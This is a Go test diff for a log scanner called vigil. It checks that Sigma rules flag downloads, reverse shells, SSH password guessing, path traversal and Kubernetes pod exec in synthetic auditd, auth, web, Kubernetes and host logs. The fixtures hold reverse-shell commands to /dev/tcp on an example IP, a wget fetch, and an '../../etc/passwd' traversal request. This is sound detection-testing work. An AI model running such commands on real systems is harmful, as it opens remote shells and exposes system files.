@@ -8,8 +8,10 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
+	"time"
 )
 
 // binary is the vigil binary the tests run, built once.
@@ -302,4 +304,140 @@ detection:
 	if code != 0 || !strings.HasSuffix(strings.TrimSpace(lint), "loaded 4, not applicable 0, unsupported 0, invalid 0") {
 		t.Errorf("lint: exit %d\n%s", code, lint)
 	}
+}
+
+// TestScanSources runs Sigma rules of each logsource vigil reads over the
+// logs they are written for: audit.log (and the processes its records
+// tell of), auth.log, a web access log, Kubernetes audit events and JSON
+// host events.
+func TestScanSources(t *testing.T) {
+	dir := t.TempDir()
+	rules := filepath.Join(dir, "rules")
+	logs := filepath.Join(dir, "logs")
+	os.MkdirAll(rules, 0o755)
+	os.MkdirAll(logs, 0o755)
+	os.WriteFile(filepath.Join(rules, "sources.yml"), []byte(`title: Downloader run
+id: 1b0e3c55-0000-4000-8000-000000000001
+logsource: {product: linux, service: auditd}
+detection:
+    selection: {type: EXECVE, a0: [wget, curl]}
+    condition: selection
+level: low
+---
+title: Reverse shell to /dev/tcp
+id: 1b0e3c55-0000-4000-8000-000000000002
+logsource: {product: linux, category: process_creation}
+detection:
+    selection: {CommandLine|contains: /dev/tcp/}
+    condition: selection
+fields: [CommandLine, Image]
+level: critical
+---
+title: SSH password guessing
+id: 1b0e3c55-0000-4000-8000-000000000003
+logsource: {product: linux, service: sshd}
+detection:
+    keywords: ['Failed password']
+    condition: keywords
+level: medium
+---
+title: Path traversal
+id: 1b0e3c55-0000-4000-8000-000000000004
+logsource: {category: webserver}
+detection:
+    selection: {c-uri|contains: '../'}
+    filter: {sc-status: 404}
+    condition: selection and not filter
+level: high
+---
+title: Exec into a pod
+id: 1b0e3c55-0000-4000-8000-000000000005
+logsource: {product: kubernetes, service: audit}
+detection:
+    selection: {verb: create, objectRef.resource: pods, objectRef.subresource: exec}
+    condition: selection
+level: high
+`), 0o644)
+
+	// bash -i >& /dev/tcp/203.0.113.9/4444 0>&1, as auditd writes it.
+	shell := fmt.Sprintf("%X", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
+	audit := strings.Join([]string{
+		`type=SYSCALL msg=audit(1763800000.100:501): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1000 uid=33 comm="wget" exe="/usr/bin/wget" key="exec"`,
+		`type=EXECVE msg=audit(1763800000.100:501): argc=2 a0="wget" a1="http://203.0.113.9/x"`,
+		`type=EOE msg=audit(1763800000.100:501): `,
+		`type=SYSCALL msg=audit(1763800001.200:502): arch=c000003e syscall=59 success=yes exit=0 ppid=901 pid=902 auid=1000 uid=33 comm="bash" exe="/usr/bin/bash" key="exec"` + "\x1d" + `UID="www-data" AUID="alice"`,
+		`type=EXECVE msg=audit(1763800001.200:502): argc=3 a0="bash" a1="-c" a2=` + shell,
+		`type=CWD msg=audit(1763800001.200:502): cwd="/var/www"`,
+		`type=SYSCALL msg=audit(1763800002.300:503): arch=c000003e syscall=2 success=yes exit=3 ppid=1 pid=903 auid=0 uid=0 comm="cat" exe="/usr/bin/cat"`,
+	}, "\n") + "\n"
+	os.WriteFile(filepath.Join(logs, "audit.log"), []byte(audit), 0o644)
+	auth := "Nov 20 03:01:07 bastion-1 sshd[2231]: Failed password for root from 198.51.100.23 port 51122 ssh2\n" +
+		"Nov 20 03:01:09 bastion-1 sshd[2231]: Failed password for root from 198.51.100.23 port 51122 ssh2\n" +
+		"Nov 20 03:01:11 bastion-1 sudo[2240]: Failed password for alice\n" + // not sshd
+		"Nov 20 03:02:00 bastion-1 sshd[2231]: Accepted publickey for ec2-user from 203.0.113.50 port 51122 ssh2\n"
+	os.WriteFile(filepath.Join(logs, "auth.log"), []byte(auth), 0o644)
+	// The lines have no year: the file's time places them in 2026.
+	written := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
+	os.Chtimes(filepath.Join(logs, "auth.log"), written, written)
+	access := `198.51.100.7 - - [20/Nov/2026:03:05:00 +0000] "GET /static/../../etc/passwd HTTP/1.1" 200 1043 "-" "Mozilla/5.0"` + "\n" +
+		`198.51.100.8 - - [20/Nov/2026:03:05:01 +0000] "GET /static/../missing HTTP/1.1" 404 0 "-" "Mozilla/5.0"` + "\n" +
+		`203.0.113.50 - bob [20/Nov/2026:03:05:02 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"` + "\n"
+	os.WriteFile(filepath.Join(logs, "access.log"), []byte(access), 0o644)
+	k8s := `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"7e0cbccf-0001","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/pods/ledger-0/exec?command=sh","verb":"create","user":{"username":"dev@bank.example","groups":["system:authenticated"]},"sourceIPs":["10.0.4.17"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods","namespace":"payments","name":"ledger-0","apiVersion":"v1","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-11-20T03:10:00.000000Z","stageTimestamp":"2026-11-20T03:10:00.100000Z"}` + "\n" +
+		`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"7e0cbccf-0002","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/payments/pods","verb":"list","user":{"username":"dev@bank.example"},"sourceIPs":["10.0.4.17"],"objectRef":{"resource":"pods","namespace":"payments"},"requestReceivedTimestamp":"2026-11-20T03:10:01.000000Z","stageTimestamp":"2026-11-20T03:10:01.100000Z"}` + "\n"
+	os.WriteFile(filepath.Join(logs, "k8s-audit.jsonl"), []byte(k8s), 0o644)
+	host := `{"UtcTime":"2026-11-20 03:20:00.000","ProcessGuid":"{1c3d-01}","Computer":"app-7","User":"www-data","Image":"/usr/bin/sh","CommandLine":"sh -c exec 5<>/dev/tcp/203.0.113.9/80"}` + "\n"
+	os.WriteFile(filepath.Join(logs, "sysmon.json"), []byte(host), 0o644)
+
+	out, errOut, code := vigil(t, "", "scan", "--no-builtin", "--sigma", rules, "--format", "json", logs)
+	if code != 0 {
+		t.Fatalf("exit %d: %s", code, errOut)
+	}
+	var alerts []alertJSON
+	if err := json.Unmarshal([]byte(out), &alerts); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	byTitle := map[string]alertJSON{}
+	for _, a := range alerts {
+		if _, dup := byTitle[a.Rule.Title]; dup {
+			t.Errorf("two alerts of %q", a.Rule.Title)
+		}
+		byTitle[a.Rule.Title] = a
+	}
+	for _, c := range []struct {
+		title, first string
+		count        int
+		entity       string // type=value the alert must name
+	}{
+		{"Downloader run", "2025-11-22T08:26:40.1Z", 1, ""},
+		{"Reverse shell to /dev/tcp", "2025-11-22T08:26:41.2Z", 2, "host=app-7"},
+		{"SSH password guessing", "2026-11-20T03:01:07Z", 2, "host=bastion-1"},
+		{"Path traversal", "2026-11-20T03:05:00Z", 1, "source_ip=198.51.100.7"},
+		{"Exec into a pod", "2026-11-20T03:10:00Z", 1, "principal=dev@bank.example"},
+	} {
+		a, ok := byTitle[c.title]
+		if !ok {
+			t.Errorf("no alert of %q in\n%s", c.title, out)
+			continue
+		}
+		if a.Count != c.count || a.FirstSeen == nil || *a.FirstSeen != c.first {
+			t.Errorf("%q: count %d, first seen %v; want %d, %s", c.title, a.Count, deref(a.FirstSeen), c.count, c.first)
+		}
+		if typ, val, ok := strings.Cut(c.entity, "="); ok && !slices.Contains(a.Entities[typ], val) {
+			t.Errorf("%q: entities %v, want %s", c.title, a.Entities, c.entity)
+		}
+	}
+	if len(alerts) != 5 {
+		t.Errorf("%d alerts, want 5:\n%s", len(alerts), out)
+	}
+	if !strings.Contains(errOut, "scanned 5 files, 17 events") {
+		t.Errorf("summary: %s", errOut)
+	}
+}
+
+func deref(s *string) string {
+	if s == nil {
+		return "<nil>"
+	}
+	return *s
 }
